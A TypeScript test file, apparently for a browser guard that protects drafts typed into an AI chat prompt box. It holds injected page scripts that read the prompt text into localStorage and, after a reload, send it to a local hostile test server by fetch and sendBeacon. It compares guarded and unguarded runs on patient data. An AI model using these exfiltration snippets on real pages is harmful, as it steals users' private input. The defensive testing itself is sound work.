import { setTimeout as pause } from 'node:timers/promises';
import { beforeAll, describe, expect, it } from 'vitest';
import { openLab } from '../../bench/browser/lab.ts';
import { pathOf, textOf, type Entry } from '../../tools/demo/institution/record.ts';
import { leaksIn } from '../../tools/demo/story/leak.ts';
import { CLEAN_PROMPT, PATIENT, PROMPT } from '../../tools/demo/story/planted.ts';
import { HOSTILE_URL, openHostileServer } from './hostile/hostile-server.ts';

/** Longer than a verdict takes. */
const READ_MS = 1_000;
/** Longer than the gate holds a request. */
const SENT_MS = 800;

/** In a page: what stands in the box goes into the page's own storage. */
const KEEP = "localStorage.setItem('draft', document.querySelector('#prompt-textarea').innerText)";

/** In a page: what is kept goes to an address that no site data name. `at-once` stands in the page's head. */
const SENDS = {
  'at-once': `fetch('/outbox/at-once', { method: 'POST', body: JSON.stringify({ draft: localStorage.getItem('draft') }) }).catch(() => 0)`,
  fetch: `fetch('/outbox/fetch', { method: 'POST', body: JSON.stringify({ draft: localStorage.getItem('draft') }) }).catch(() => 0)`,
  beacon: `navigator.sendBeacon('/outbox/beacon', localStorage.getItem('draft'))`,
} as const;
const WAYS = Object.keys(SENDS) as (keyof typeof SENDS)[];

const TEXTS = { patient: PROMPT, clean: CLEAN_PROMPT } as const;
const SIDES = ['control', 'guarded'] as const;

describe.each(['chromium', 'firefox'] as const)(
  'a draft that a page of %s keeps and sends after a reload',
  (browser) => {
    const received = new Map<string, readonly Entry[]>();

    async function play(side: (typeof SIDES)[number], text: string): Promise<readonly Entry[]> {
      const server = await openHostileServer(null);
      const lab = await openLab({ browser, ports: server, side });
      try {
        await lab.open(HOSTILE_URL);
        await lab.insert(text);
        await pause(READ_MS);
        await lab.evaluate(KEEP);
        server.head = `<script>${SENDS['at-once']}</script>`;
        await lab.open(HOSTILE_URL);
        await lab.evaluate(SENDS.fetch);
        await lab.evaluate(SENDS.beacon);
        await pause(SENT_MS);
        return server.record.since(0);
      } finally {
        await lab.close();
        server.close();
      }
    }

    beforeAll(async () => {
      for (const side of SIDES)
        for (const kind of ['patient', 'clean'] as const)
          received.set(`${side} ${kind}`, await play(side, TEXTS[kind]));
    }, 120_000);

    function sent(side: (typeof SIDES)[number], kind: keyof typeof TEXTS, way: string): Entry[] {
      return (received.get(`${side} ${kind}`) ?? []).filter((entry) => pathOf(entry) === `/outbox/${way}`);
    }

    it.each(WAYS)('goes out without the guard (%s)', (way) => {
      expect(leaksIn(sent('control', 'patient', way), PATIENT)).not.toEqual([]);
    });

    it.each(WAYS)('does not go out with it (%s)', (way) => {
      expect(leaksIn(sent('guarded', 'patient', way), PATIENT)).toEqual([]);
    });

    it.each(WAYS)('goes out once and unchanged when it is clean (%s)', (way) => {
      expect(sent('guarded', 'clean', way).map(textOf)).toEqual(sent('control', 'clean', way).map(textOf));
      expect(sent('guarded', 'clean', way)).toHaveLength(1);
    });
  },
);
